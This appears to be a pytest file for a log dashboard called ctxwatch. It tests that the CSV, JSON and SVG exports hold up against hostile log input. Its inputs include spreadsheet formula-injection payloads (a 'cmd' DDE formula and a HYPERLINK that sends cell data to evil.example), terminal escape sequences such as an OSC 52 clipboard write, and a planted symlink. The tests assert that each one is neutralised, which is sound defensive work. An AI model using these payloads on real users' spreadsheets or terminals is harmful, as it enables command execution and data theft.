"""The dashboard's exports (``x``: the calls table as CSV, ``w``: an eviction plan as JSON) of hostile logs.

Expected cells are written by hand from the log lines the tests write; the files are read back with the
standard library's ``csv`` and ``json``, not with ctxwatch.
"""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path

import pytest
from test_ui_common import line, loaded, open_preview, record, wait_for

from ctxwatch.ui.app import CtxwatchApp
from ctxwatch.ui.export import write_new


def _hostile_surrogates(folder: Path) -> Path:
    """Three calls whose model and session hold a lone surrogate (JSON ``\\ud800``, as a log may write it), in a
    file whose name is not UTF-8 (byte 0xff: Python names it with the surrogate escape ``\\udcff``)."""
    recs = []
    for i in range(3):
        rec = record(i, turn_words=5, model="gpt-4o\ud800")
        rec["session"] = "s\ud800"
        recs.append(rec)
    path = os.path.join(os.fsencode(folder), b"\xff.jsonl")
    with open(path, "w", encoding="utf-8") as fh:  # (json.dumps writes the surrogate as the escape \ud800)
        fh.write("".join(line(r) for r in recs))
    assert b"\\ud800" in Path(os.fsdecode(path)).read_bytes()
    return Path(os.fsdecode(path))


async def export_both(log: Path, out: Path, calls: int, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    """Open ``log`` (``calls`` calls) in the dashboard with ``out`` as the working folder, press ``x`` (CSV) and
    ``w`` in the newest call's eviction preview (plan JSON), check the app still runs, and return the two files
    written (the only files in ``out``)."""
    monkeypatch.chdir(out)
    app = CtxwatchApp(str(log))
    async with app.run_test(size=(120, 40)) as pilot:
        await loaded(pilot, calls)
        await pilot.press("x")
        assert await wait_for(pilot, lambda: bool(app.saved))
        screen = await open_preview(pilot)
        await pilot.press("w")
        assert await wait_for(pilot, lambda: screen.written is not None)
        await pilot.press("escape")
        await pilot.pause()
        assert app.is_running and app.return_code is None
    (csv_path,) = out.glob("*.csv")
    (json_path,) = out.glob("*.json")
    return csv_path, json_path


async def test_exports_of_lone_surrogates_are_written_whole_and_the_app_runs_on(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A model, session or file name holding a lone surrogate killed the app on ``x`` (UnicodeEncodeError, a
    header-only CSV left behind) and on the preview's ``w`` (TypeError from orjson, a 0-byte JSON left
    behind).  Both files are now written whole, the surrogate replaced by U+FFFD, and the app runs on."""
    logs, out = tmp_path / "logs", tmp_path / "out"
    logs.mkdir()
    out.mkdir()
    log = _hostile_surrogates(logs)
    csv_path, json_path = await export_both(log, out, 3, monkeypatch)
    assert sorted(p.name for p in out.iterdir()) == sorted([csv_path.name, json_path.name])
    with open(csv_path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["call"] for r in rows] == ["1", "2", "3"]  # every row, not the header alone
    assert {(r["model"], r["session"]) for r in rows} == {("gpt-4o\ufffd", "s\ufffd")}
    assert {os.path.basename(r["file"]) for r in rows} == {"\ufffd.jsonl"}
    doc = json.loads(json_path.read_text(encoding="utf-8"))
    assert doc["call"]["model"] == "gpt-4o\ufffd" and doc["call"]["number"] == 3
    assert os.path.basename(doc["call"]["file"]) == "\ufffd.jsonl"


def test_an_export_that_fails_half_way_leaves_no_file(tmp_path: Path) -> None:
    """A write that fails (here: data that is not bytes, as a full disk would fail it) removes the file it
    created; an existing file is never overwritten."""
    target = tmp_path / "x.csv"
    with pytest.raises(TypeError):
        write_new(str(target), "not bytes")  # type: ignore[arg-type]
    assert not target.exists()
    target.write_bytes(b"mine")
    with pytest.raises(FileExistsError):
        write_new(str(target), b"theirs")
    assert target.read_bytes() == b"mine"


def test_a_dashboard_that_crashed_ends_the_command_with_status_1(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    """An error the app did not handle (the export crash above) ended `ctxwatch run.jsonl` with status 0, as if
    the user had quit.  Textual gives such an app the return code 1; the command now ends with it."""
    import io
    import sys

    from ctxwatch.cli import watch_cmd

    log = tmp_path / "run.jsonl"
    log.write_text(line(record(0, turn_words=5)))

    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    def boom(self: CtxwatchApp) -> None:
        raise RuntimeError("a bug in a handler")

    run = CtxwatchApp.run
    monkeypatch.setattr(CtxwatchApp, "run", lambda self: run(self, headless=True))  # (no real terminal here)
    monkeypatch.setattr(CtxwatchApp, "on_mount", boom)
    monkeypatch.setattr(sys, "stdout", Terminal())  # (the command draws the dashboard only on a terminal)
    monkeypatch.setenv("COLUMNS", "120")
    monkeypatch.setenv("LINES", "40")
    with pytest.raises(SystemExit) as exc:
        watch_cmd.callback(paths=(str(log),), config=None, window=None, budget_fraction=None,  # type: ignore[misc]
                           trigger=None, reserve=None, fmt=None, poll=False, last=None)
    assert exc.value.code == 1


#: Terminal controls a log may carry: erase display (CSI 2J), a clipboard write (OSC 52), a link (OSC 8), NUL, a
#: one-byte C1 CSI (U+009B) and a right-to-left override (U+202E).
CONTROLS = "gpt-4o\x1b[2J\x1b]52;c;aGVsbG8=\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\\x00\x9b31m\u202eevil"
#: The raw bytes none of which may be in an export (UTF-8 of ESC, BEL, NUL, U+009B, U+202E).
RAW = (b"\x1b", b"\x07", b"\x00", "\x9b".encode(), "\u202e".encode())


async def test_the_csv_export_holds_no_formula_and_no_control_and_the_plan_json_no_raw_control(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """x wrote a model ``=cmd|' /C calc'!A0`` or a session ``=HYPERLINK(...)`` as is (a spreadsheet evaluates
    them) and terminal controls raw (``cat`` replayed them); w's JSON held raw C1 and bidi characters (orjson
    escapes only U+0000-U+001F).  Text cells that start with a formula character now get a leading apostrophe
    (OWASP), controls are escaped as the screen shows them, and numbers stay numbers; the JSON writes those
    characters as \\u escapes, so it still holds the model exactly as logged."""
    sessions = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1)", " =1", "\t=1"]
    models = ["=cmd|' /C calc'!A0", "gpt-4o", "gpt-4o", "gpt-4o", "gpt-4o", CONTROLS]
    log = tmp_path / "evil.jsonl"
    recs = []
    for i, (session, model) in enumerate(zip(sessions, models, strict=True)):
        rec = record(i, turn_words=5, model=model)
        rec["session"] = session
        recs.append(rec)
    log.write_text("".join(line(r) for r in recs), encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    csv_path, json_path = await export_both(log, out, 6, monkeypatch)  # (the plan: of the last call, with controls)
    raw = csv_path.read_bytes()
    assert [r for r in RAW if r in raw] == []
    with open(csv_path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["model"] == "'=cmd|' /C calc'!A0"
    assert [r["session"] for r in rows] == [  # (the TAB of the last one is a blank once cleaned)
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1", "'-2+3", "'@SUM(A1)", "' =1", "' =1"]
    assert rows[5]["model"] == ("gpt-4o\\x1b[2J\\x1b]52;c;aGVsbG8=\\x07\\x1b]8;;http://evil.example\\x1b\\link"
                                "\\x1b]8;;\\x1b\\\\x00\\x9b31m\\u202eevil")
    # numbers are numbers: the reported prompt of call i is 1130 + 1064 i (record()), the call number i + 1
    assert [(r["call"], r["prompt_tokens_reported"]) for r in rows] == [
        (str(i + 1), str(1130 + 1064 * i)) for i in range(6)]
    raw = json_path.read_bytes()
    assert [r for r in RAW if r in raw] == []
    assert b"\\u009b31m\\u202eevil" in raw
    assert json.loads(raw)["call"]["model"] == CONTROLS  # (escaped, not changed)


async def test_the_svg_screenshot_never_writes_through_a_planted_symlink(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """``s`` wrote the screenshot through a dangling symlink planted at its name (Textual's screenshot opens
    with create-truncate), creating the file the link named.  The screenshot is now a new file of its own,
    created exclusively like the CSV and plan exports, and the link's target is never made."""
    from test_ui_common import write_log

    logs, out = tmp_path / "logs", tmp_path / "out"
    logs.mkdir()
    out.mkdir()
    log = write_log(logs / "run.jsonl", 2, turn_words=5)
    target = tmp_path / "elsewhere" / "victim.svg"
    target.parent.mkdir()
    (out / "ctxwatch-run.svg").symlink_to(target)
    monkeypatch.chdir(out)
    app = CtxwatchApp(str(log))
    async with app.run_test(size=(120, 40)) as pilot:
        await loaded(pilot, 2)
        await pilot.press("s")
        assert await wait_for(pilot, lambda: bool(app.saved))
        assert app.is_running
    assert not target.exists()
    assert (out / "ctxwatch-run.svg").is_symlink()
    saved = out / "ctxwatch-run-2.svg"
    assert not saved.is_symlink() and saved.read_text(encoding="utf-8").lstrip().startswith("<svg")
    with pytest.raises(FileExistsError):  # (a link planted after the name was chosen is refused too)
        write_new(str(out / "ctxwatch-run.svg"), b"<svg/>")
    assert not target.exists()
